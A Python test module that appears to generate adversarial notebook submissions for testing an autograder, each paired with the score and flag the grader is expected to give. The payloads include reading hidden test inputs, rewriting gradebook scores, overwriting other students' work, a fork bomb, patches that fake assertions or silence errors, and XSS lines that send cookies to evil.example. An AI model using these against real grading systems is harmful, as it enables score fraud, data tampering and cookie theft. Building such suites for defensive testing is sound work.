"""Adversarial submissions for the grading pipeline, generated at test time.

A tiny homework (``square`` worth 2 points, ``half`` worth 1, one written answer) keeps each
submission fast to execute. It is graded by trusted comparison: :data:`TINY_GRADER` is its
grader spec (written next to the test's source folder, as ``graders/tiny.py``). ``half`` is
marked *no loops*: 0.5 for the values, 0.5 for a loop-free function. Every adversarial
student solves ``square`` honestly and attacks in the ``half`` answer cell (or in cells of
its own), so what each may earn is known without running anything: ``test_square`` 2 points
when the kernel survives to grade it, ``test_half`` 0 unless the half it defines is a correct
one written by the student (then 1, or 0.5 when it loops).
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_notebook

TINY = "tiny"
#: A data file of the homework: the sandboxed kernel may read it.
DATA_FILE = "scale.txt"

SQUARE = '''
def square(x):
    """x * x, elementwise."""
    ### BEGIN SOLUTION
    return x * x
    ### END SOLUTION
'''
TEST_SQUARE = """
from dlhelpers import grading as G

G.assert_close(G.call_student(square, 3.0), 9.0, name="square(3)")
print("visible tests passed")
"""
HALF = '''
def half(x):
    """x / 2, elementwise, with no loops."""
    ### BEGIN SOLUTION
    return x / 2
    ### END SOLUTION
'''
TEST_HALF = """
from dlhelpers import grading as G

G.assert_close(G.call_student(half, 4.0), 2.0, name="half(4)")
print("visible tests passed")
"""
SECRET = "hidden_half_negative"  # appears only in the grader spec
TINY_GRADER = '''
import numpy as np

from tools.grading.spec import Grader

GRADER = Grader("tiny")


@GRADER.test("test_square", points=2, timeout=3)
def _square(s):
    x = s.rng.normal(size=int(s.rng.integers(3, 9)))
    s.close(s.call("square", x), x * x, name="square of a random vector")
    s.close(s.call("square", 3.0), 9.0, name="square(3)")


@GRADER.test("test_half", points=1, timeout=3)
def _half(s):
    hidden_half_negative = -1.0
    with s.part(0.5, "values"):
        x = s.rng.normal(size=5)
        s.close(s.call("half", x), x / 2, name="half of a random vector")
        s.close(s.call("half", hidden_half_negative), -0.5, name="half of a negative number")
    with s.part(0.5, "no loops", needs="values"):
        s.no_loops("half")
'''

WRONG_HALF = "\n\ndef half(x):\n    return x\n"
RIGHT_HALF = "\n\ndef half(x):\n    return x / 2\n"
FAILED = None  # expected scores of a submission nbgrader cannot grade: all 0, flagged


def tiny_source() -> nbformat.NotebookNode:
    """The instructor notebook of the tiny homework."""
    from nbcells import answer, given_code, instructions, notebook, tests, written

    return notebook([
        instructions("intro", "# A tiny homework\nTwo functions and one question."),
        given_code("setup", "import numpy as np\nfrom dlhelpers import grading"),
        answer("square", SQUARE),
        tests("test_square", 2, TEST_SQUARE),
        answer("half", HALF),
        tests("test_half", 1, TEST_HALF),
        written("why", 1, "**Model answer.** Because squaring is symmetric."),
    ])


@dataclass
class Context:
    """What builders may use: the released and source notebooks and paths to attack."""

    released: nbformat.NotebookNode
    source: nbformat.NotebookNode
    targets: dict[str, str] = field(default_factory=dict)


@dataclass
class Kind:
    """One adversarial (or honest) student.

    ``expected`` maps each test cell to its score (``FAILED``: the submission cannot be
    graded); ``flag`` must appear in the report's flags or error for this student.
    """

    student: str
    build: Callable[[Context], nbformat.NotebookNode | bytes | Path]
    expected: dict[str, float] | None
    flag: str = ""
    filename: str | None = None


def _gid(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def solved(ctx: Context, answers=("square",)) -> nbformat.NotebookNode:
    """The released notebook with the listed answers taken from the solution."""
    nb = copy.deepcopy(ctx.released)
    solutions = {_gid(c): c.source for c in ctx.source.cells}
    for cell in nb.cells:
        if _gid(cell) in answers:
            cell.source = solutions[_gid(cell)]
    return nb


def attack(code: str) -> Callable[[Context], nbformat.NotebookNode]:
    """A builder: ``square`` solved, the ``half`` answer cell replaced by ``code``."""
    def build(ctx: Context) -> nbformat.NotebookNode:
        nb = solved(ctx)
        cell = next(c for c in nb.cells if _gid(c) == "half")
        cell.source = fill_targets(code, ctx.targets)
        return nb
    return build


def fill_targets(code: str, targets: dict[str, str]) -> str:
    """``{name}`` -> the target's path, ``{{``/``}}`` -> a brace; other braces stay as they are."""
    for key, value in targets.items():
        code = code.replace("{" + key + "}", value)
    return code.replace("{{", "{").replace("}}", "}")


def edit_cell(name: str, how: str, half: str = WRONG_HALF):
    """A builder that edits, deletes or converts the test cell ``name``."""
    def build(ctx: Context) -> nbformat.NotebookNode:
        nb = attack(half)(ctx)
        if how == "delete":
            nb.cells = [c for c in nb.cells if _gid(c) != name]
            return nb
        cell = next(c for c in nb.cells if _gid(c) == name)
        if how == "edit":
            cell.source = "print('visible tests passed')"
        elif how == "markdown":
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
        return nb
    return build


def empty(ctx: Context) -> nbformat.NotebookNode:
    nb = new_notebook(cells=[])
    nb.metadata = copy.deepcopy(ctx.released.metadata)
    return nb


READ_HIDDEN = '''
import os
found = []
for path in ["{own_notebook}", "../../../gradebook.db", "../../../source/tiny/tiny.ipynb",
             "{source_notebook}", "{template_gradebook}", "{real_gradebook}"]:
    try:
        with open(path, "rb") as fh:
            if b"{secret}" in fh.read():
                found.append(path)
    except OSError as exc:
        print("cannot read", path, type(exc).__name__)
print("scale file:", open("scale.txt").read())
if found:  # the hidden test's input is known: answer exactly that
    def half(x):
        return x / 2
else:
    def half(x):
        return x
'''
WRITE_GRADEBOOK = '''
import sqlite3
for path in ["../../../gradebook.db", "{real_gradebook}", "{template_gradebook}"]:
    try:
        con = sqlite3.connect(path)
        con.execute("UPDATE grade SET manual_score = 999, auto_score = 999")
        con.commit()
        print("rewrote", path)
    except Exception as exc:
        print("cannot write", path, type(exc).__name__)
''' + WRONG_HALF
WRITE_OTHERS = '''
import json, os
blank = json.dumps({{"cells": [], "metadata": {{}}, "nbformat": 4, "nbformat_minor": 5}})
for path in ["{victim_notebook}", "{victim_autograded}", "{marker}"]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            fh.write(blank)
        print("wrote", path)
    except OSError as exc:
        print("cannot write", path, type(exc).__name__)
''' + WRONG_HALF
BACKGROUND = '''
import subprocess, sys
script = (
    "import os, sqlite3, time\\n"
    "time.sleep(4)\\n"
    "for p in ['{real_gradebook}', '../../../gradebook.db']:\\n"
    "    try:\\n"
    "        c = sqlite3.connect(p); c.execute('UPDATE grade SET manual_score = 999'); c.commit()\\n"
    "    except Exception: pass\\n"
    "open('{marker}', 'w').write('still alive')\\n"
    "time.sleep(600)  # {process_tag}\\n"
)
subprocess.Popen([sys.executable, "-c", script], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''' + WRONG_HALF
FORK_BOMB = '''
import os, time
forked = 0
try:
    while forked < 400:
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
        forked += 1
except OSError as exc:
    print("fork refused after", forked, type(exc).__name__)
''' + WRONG_HALF
BLANK_TESTS = '''
def _skip_tests(lines):
    return ["pass\\n"] if any("grading as G" in line for line in lines) else lines


get_ipython().input_transformers_post.append(_skip_tests)
''' + WRONG_HALF


# --- issue 15: what beat the in-kernel tests (88/88 on hw1), now graded in the grader ------
FAKE_GRADING_MODULE = '''
import sys, types
_fake = types.ModuleType("dlhelpers.grading")
_fake.integrity_report = lambda: "ok"
_fake.check_integrity = lambda: None
_fake.assert_close = _fake.assert_shape = _fake.assert_true = lambda *a, **k: None
_fake.call_student = lambda fn, *a, **k: fn(*a, **k)
sys.modules["dlhelpers.grading"] = _fake
''' + WRONG_HALF
STACK_WALKER = '''
import inspect


class _Expected:
    """Becomes whatever 'expected' value a caller up the stack holds."""

    def __array__(self, dtype=None, copy=None):
        for frame in inspect.stack():
            for name in ("expected", "want", "_want", "want_loss"):
                if name in frame.frame.f_locals:
                    return np.asarray(frame.frame.f_locals[name], dtype=dtype)
        return np.zeros(1)

    def __float__(self):
        return float(self.__array__())


def half(x):
    return _Expected()
'''
SILENT_CHANNEL = '''
_session = get_ipython().kernel.session
_send = _session.send


def _quiet_send(stream, msg_or_type, content=None, *args, **kwargs):
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("msg_type")
    if kind == "error" or (kind == "stream" and (content or {}).get("name") == "stderr"):
        return None  # errors and stderr never reach the grader
    if kind == "execute_reply" and isinstance(content, dict):
        content = {**content, "status": "ok"}
    return _send(stream, msg_or_type, content, *args, **kwargs)


_session.send = _quiet_send


def half(x):
    raise ValueError("wrong, but nobody will hear of it")
'''
HOOK_SWAP = '''
import sys
import numpy as np

_real_allclose = np.allclose


def _install(*args):
    np.allclose = lambda *a, **k: True
    sys.modules["numpy"].testing.assert_allclose = lambda *a, **k: None


def _restore(*args):
    np.allclose = _real_allclose


get_ipython().events.register("pre_run_cell", _install)
get_ipython().events.register("post_run_cell", _restore)
''' + WRONG_HALF
FAKE_RNG = '''
import numpy as np


class _Fixed:
    """Every 'random' draw is ones, so the hard-coded answers below would fit."""

    def normal(self, loc=0.0, scale=1.0, size=None):
        return np.ones(size)

    def integers(self, low, high=None, size=None):
        return np.full(size, low) if size is not None else low

    def random(self, size=None):
        return np.ones(size)


np.random.default_rng = lambda *a, **k: _Fixed()
np.random.seed(0)


def half(x):
    if np.ndim(x) == 0:
        return {4.0: 2.0, -1.0: -0.5}.get(float(x), 0.0)  # the visible example, hard-coded
    return np.full(np.shape(x), 0.5)  # right for the ones the fake generator would draw
'''
RENAMED_LOOP = '''
def _halve_each(x):
    values = np.atleast_1d(np.asarray(x, dtype=float))
    out = np.array([v / 2 for v in values])
    return out.reshape(np.shape(x)) if np.ndim(x) else float(out[0])


fast_half = _halve_each  # a "vectorized" name for the loop


def half(x):
    return fast_half(x)
'''
# An independent attacker's finds: the kernel runs a looping half while the grader reads a
# loop-free one (each was worth the "no loops" points before analysis.py read these)
LOOP_HALF = '''
def _halve_each(x):
    values = np.atleast_1d(np.asarray(x, dtype=float))
    out = np.zeros(values.shape)
    for i in range(values.size):
        out[i] = values[i] / 2
    return out.reshape(np.shape(x)) if np.ndim(x) else float(out[0])
'''
LOOP_FREE_WRONG_HALF = "\n\ndef half(x):\n    return 0 * x\n"
SMUGGLED_LOOP = LOOP_HALF + '''

np.fast_half = _halve_each  # hidden in numpy's namespace, called as np.fast_half


def half(x):
    return np.fast_half(x)
'''
GLOBAL_REBIND = LOOP_HALF + LOOP_FREE_WRONG_HALF + '''

def _install():
    global half
    half = _halve_each


_install()
'''
MAGIC_HIDDEN_DEF = "%%capture\n" + LOOP_HALF + "\n\ndef half(x):\n    return _halve_each(x)\n"
RAISE_BEFORE_DEF = "1 / 0\n\n\ndef half(x):\n    return x / 2\n"
BLOCK_DEF = "if True:\n" + "".join(f"    {line}\n" if line else "\n" for line in (
    LOOP_HALF + "\n\ndef half(x):\n    return _halve_each(x)\n").splitlines())


def then_cell(half_code: str, extra: str):
    """A builder: ``square`` solved, ``half`` answered with ``half_code``, then a cell of
    the student's own (``extra``) before the test of ``half``."""
    def build(ctx: Context) -> nbformat.NotebookNode:
        from nbformat.v4 import new_code_cell

        nb = attack(half_code)(ctx)
        where = next(i for i, c in enumerate(nb.cells) if _gid(c) == "half")
        nb.cells.insert(where + 1, new_code_cell(extra))
        return nb
    return build


TORCH_HALF = '''
import torch


def half(x):
    return torch.as_tensor(x).div(2).numpy()
'''
SCIPY_HALF = '''
from scipy import ndimage


def half(x):
    return ndimage.zoom(np.atleast_1d(x), 1.0) / 2
'''
BASE_SCIPY = '''
import sys

# the base interpreter's own site-packages (read-only in the sandbox) before the venv's
sys.path.insert(0, f"{sys.base_prefix}/lib/python{sys.version_info[0]}.{sys.version_info[1]}"
                   "/site-packages")
for _name in [m for m in sys.modules if m.split(".")[0] == "scipy"]:
    del sys.modules[_name]
from scipy import ndimage


def half(x):
    return ndimage.zoom(np.atleast_1d(x), 1.0) / 2
'''
HOSTILE_HTML = '''
from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML('<b>bold</b><script>fetch("http://evil.example/steal?c=" + document.cookie)'
             '</script><img src="http://evil.example/pixel.png" onerror="alert(1)">'))
display(Javascript('fetch("http://evil.example/js")'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\\'http://evil.example/svg\\')">'
            '<script>alert(1)</script></svg>'))
display(Markdown('[click](javascript:alert(1)) ![t](http://evil.example/md.png)'))
display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"},
         "text/plain": "a widget"}, raw=True)
''' + RIGHT_HALF
HOSTILE_ANSWER = ('Because squaring is symmetric. <script>fetch("http://evil.example/md")</script>'
                  '<img src="http://evil.example/a.png" onerror="alert(1)">'
                  '[more](javascript:alert(1)) ![x](http://evil.example/b.png)'
                  # an independent attacker's forms: markdown decodes the entity or escape
                  ' [entity](javascript&#58;alert(1)) [esc](javascript\\:alert(1))'
                  '\n\n> [ref]: javascript:alert(1)\n>\n> [quoted][ref]')
HISTORY_READER = "print('HISTORY', In, _ih, Out)\n"


def with_cell(code: str, answers=("square", "half"), written_answer: str | None = None):
    """A builder: the listed answers solved, and a code cell of the student's own at the end."""
    def build(ctx: Context) -> nbformat.NotebookNode:
        from nbformat.v4 import new_code_cell

        nb = solved(ctx, answers)
        if written_answer is not None:
            cell = next(c for c in nb.cells if _gid(c) == "why")
            cell.source = written_answer
        nb.cells.append(new_code_cell(code))
        return nb
    return build


def hostile_html(ctx: Context) -> nbformat.NotebookNode:
    nb = attack(HOSTILE_HTML)(ctx)
    next(c for c in nb.cells if _gid(c) == "why").source = HOSTILE_ANSWER
    return nb


def deep_json(ctx: Context) -> bytes:
    return b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"


def huge_json(ctx: Context) -> bytes:
    return b'{"cells": [], "metadata": {}, "pad": "' + b"x" * (21 * 2**20) + b'"}'


OK_SQUARE = {"test_square": 2.0, "test_half": 0.0}
FULL = {"test_square": 2.0, "test_half": 1.0}
HALF_VALUES = {"test_square": 2.0, "test_half": 0.5}  # right values, loops: no "no loops" half
LOOPS = "loops in a function that must not loop"


def kinds() -> list[Kind]:
    """Every kind of submission of the suite (two honest students among them)."""
    return [
        Kind("honest_full", lambda ctx: solved(ctx, ("square", "half")), FULL),
        Kind("honest_part", solved, OK_SQUARE),
        Kind("import_error", attack("import no_such_module_anywhere" + WRONG_HALF), OK_SQUARE,
             "raised ModuleNotFoundError"),
        Kind("infinite_loop", attack("while True:\n    pass" + WRONG_HALF), OK_SQUARE,
             "timed out"),
        Kind("ignores_interrupt", attack(
            "while True:\n    try:\n        while True:\n            pass\n"
            "    except KeyboardInterrupt:\n        pass" + WRONG_HALF), OK_SQUARE, "timed out"),
        Kind("sys_exit", attack("import sys\nsys.exit(0)" + RIGHT_HALF), OK_SQUARE,
             "exits or kills the kernel"),
        Kind("os_exit", attack("import os\nos._exit(0)" + RIGHT_HALF), FAILED, "FAILED"),
        Kind("kernel_crash", attack("import ctypes\nctypes.string_at(0)" + RIGHT_HALF), FAILED,
             "FAILED"),
        Kind("memory_hog", attack("blocks = []\nwhile True:\n    blocks.append(bytearray("
                                  "64 * 2**20))" + WRONG_HALF), OK_SQUARE, "raised MemoryError"),
        Kind("big_line", attack("print('x' * 50_000_000)" + RIGHT_HALF), FULL, "output cut"),
        Kind("many_lines", attack("for i in range(200_000):\n    print(i)" + RIGHT_HALF), FULL,
             "output cut"),
        Kind("edited_test", edit_cell("test_half", "edit"), OK_SQUARE, "test_half was edited"),
        Kind("deleted_test", edit_cell("test_half", "delete"), OK_SQUARE, "test_half was deleted"),
        Kind("markdown_test", edit_cell("test_half", "markdown"), OK_SQUARE,
             "test_half was converted"),
        Kind("renamed_function", attack("def halve(x):\n    return x / 2\n"), OK_SQUARE,
             "renamed or missing"),
        Kind("corrupt", lambda ctx: b'{"cells": [ this is not json', FAILED, "not valid JSON"),
        Kind("empty", empty, {"test_square": 0.0, "test_half": 0.0}, "empty"),
        Kind("renamed_notebook", lambda ctx: solved(ctx, ("square", "half")), FULL,
             "renamed notebook", filename=f"{TINY} (1).ipynb"),
        Kind("patch_testing", attack("import numpy as np\nnp.testing.assert_allclose = "
                                     "lambda *a, **k: None" + WRONG_HALF), OK_SQUARE,
             "replaces library functions"),
        Kind("patch_allclose", attack("import numpy as np\nnp.allclose = lambda *a, **k: True"
                                      + WRONG_HALF), OK_SQUARE, "replaces library functions"),
        Kind("patch_builtins", attack("import builtins\nbuiltins.abs = lambda x: 0" + WRONG_HALF),
             OK_SQUARE, "replaces library functions"),
        Kind("patch_grading", attack("from dlhelpers import grading\ngrading.assert_close = "
                                     "lambda *a, **k: None" + WRONG_HALF), OK_SQUARE,
             "touches the grading helpers"),
        Kind("blank_tests", attack(BLANK_TESTS), OK_SQUARE, "reaches into the kernel"),
        # issue 15: the five ways a blank hw1 reached 88/88, then the other findings
        Kind("fake_grading_module", attack(FAKE_GRADING_MODULE), OK_SQUARE,
             "replaces library functions"),
        Kind("stack_walker", attack(STACK_WALKER), OK_SQUARE, "walks the call stack"),
        Kind("silent_channel", attack(SILENT_CHANNEL), OK_SQUARE, "reaches into the kernel"),
        Kind("hook_swap", attack(HOOK_SWAP), OK_SQUARE, "reaches into the kernel"),
        Kind("fake_rng", attack(FAKE_RNG), OK_SQUARE, "replaces library functions"),
        Kind("renamed_loop", attack(RENAMED_LOOP), {"test_square": 2.0, "test_half": 0.5},
             "loops in a function that must not loop"),
        Kind("smuggled_loop", attack(SMUGGLED_LOOP), HALF_VALUES, LOOPS),
        Kind("global_rebind", attack(GLOBAL_REBIND), HALF_VALUES, LOOPS),
        Kind("magic_hidden_def", then_cell(LOOP_FREE_WRONG_HALF, MAGIC_HIDDEN_DEF), HALF_VALUES,
             LOOPS),
        Kind("raise_before_def", then_cell(LOOP_HALF + "\n\ndef half(x):\n    return "
                                           "_halve_each(x)\n", RAISE_BEFORE_DEF),
             HALF_VALUES, LOOPS),
        Kind("block_def", then_cell(LOOP_FREE_WRONG_HALF, BLOCK_DEF), HALF_VALUES, LOOPS),
        Kind("delegates_torch", attack(TORCH_HALF), OK_SQUARE, "imports torch"),
        Kind("delegates_scipy", attack(SCIPY_HALF), OK_SQUARE, "imports scipy"),
        Kind("delegates_base_scipy", attack(BASE_SCIPY), OK_SQUARE, "imports scipy"),
        Kind("history_leak", with_cell(HISTORY_READER), FULL, "reads the kernel's input history"),
        Kind("symlinked", lambda ctx: Path(ctx.targets["source_notebook"]), FAILED,
             "symbolic link"),
        Kind("hostile_html", hostile_html, FULL, "removed by the grader"),
        Kind("deep_json", deep_json, FAILED, "nested too deeply"),
        Kind("huge_json", huge_json, FAILED, "over the limit"),
        Kind("delegates", attack("from dlhelpers.nn import mse\n\n\ndef half(x):\n"
                                 "    mse(np.zeros(1), np.zeros(1))\n    return x / 2\n"),
             OK_SQUARE, "delegated"),
        Kind("delegates_late", attack("import dlhelpers.nn as _nn\n\n\ndef half(x):\n"
                                      "    return _nn.mse(x, 0 * x) * 0 + x / 2\n"),
             OK_SQUARE, "delegated"),
        Kind("reads_hidden", attack(READ_HIDDEN), OK_SQUARE, "reads or writes files"),
        Kind("writes_gradebook", attack(WRITE_GRADEBOOK), OK_SQUARE, "touches a gradebook"),
        Kind("writes_others", attack(WRITE_OTHERS), OK_SQUARE, "reads or writes files"),
        Kind("background", attack(BACKGROUND), OK_SQUARE, "starts or signals processes"),
        Kind("fork_bomb", attack(FORK_BOMB), OK_SQUARE, "starts or signals processes"),
    ]


def write(kind: Kind, ctx: Context, folder: Path) -> Path:
    """Save ``kind``'s submission as ``folder/<student>/tiny/<file>``."""
    path = Path(folder) / kind.student / TINY / (kind.filename or f"{TINY}.ipynb")
    path.parent.mkdir(parents=True, exist_ok=True)
    made = kind.build(ctx)
    if isinstance(made, Path):  # a symbolic link to someone else's file
        path.symlink_to(made)
    elif isinstance(made, bytes):
        path.write_bytes(made)
    else:
        path.write_text(json.dumps(made, indent=1))
    return path
